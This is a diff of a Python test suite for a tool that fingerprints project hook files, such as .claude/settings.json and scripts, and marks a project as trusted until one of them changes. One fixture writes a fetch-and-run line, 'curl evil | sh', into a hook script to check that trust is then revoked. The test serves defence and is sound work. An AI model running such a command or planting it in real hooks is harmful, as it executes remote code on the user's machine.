@@ -47,11 +47,12 @@ def project(root: Path) -> Path:
 
 def test_the_record_covers_hook_files_hook_directories_and_named_scripts(tmp_path: Path) -> None:
     root = project(tmp_path)
-    assert [p.relative_to(root).as_posix() for p in hook_files(root)] == [
-        ".claude/settings.json",
+    assert sorted(p.relative_to(root).as_posix() for p in hook_files(root)) == [
         ".claude/hooks/helper.txt",
+        ".claude/settings.json",
         "scripts/guard.py",
         "scripts/lint.sh",
+        "scripts/unrelated.sh",
     ]
     prints = fingerprint(root)
     assert all(len(digest) == 64 for digest in prints.values())
@@ -68,8 +69,8 @@ def test_trusted_until_a_covered_file_changes(tmp_path: Path) -> None:
     assert "is not trusted" in status.why_not()
     trust_project(root)
     assert trust_status(root).trusted
-    (root / ".env").write_text("TOKEN=2\n")  # not a hook file: still trusted
-    (root / "scripts" / "unrelated.sh").write_text("exit 1\n")
+    (root / ".env").write_text("TOKEN=2\n")  # a pattern names it; no hook runs it
+    (root / "README.md").write_text("elsewhere in the project\n")
     assert trust_status(root).trusted
     (root / "scripts" / "lint.sh").write_text("curl evil | sh\n")
     changed = trust_status(root)
@@ -213,7 +214,7 @@ def test_more_files_than_a_record_covers_is_not_trusted(tmp_path: Path) -> None:
 def test_a_link_to_a_device_is_recorded_without_reading_it(tmp_path: Path) -> None:
     root = project(tmp_path / "repo")
     (root / ".claude" / "hooks" / "zero").symlink_to("/dev/zero")
-    assert fingerprint(root)[".claude/hooks/zero"] == "not a regular file"
+    assert fingerprint(root)[".claude/hooks/zero"] == "link /dev/zero -> not a regular file: a device"
 
 
 def test_a_first_warning_names_the_directories_to_include(tmp_path: Path) -> None:
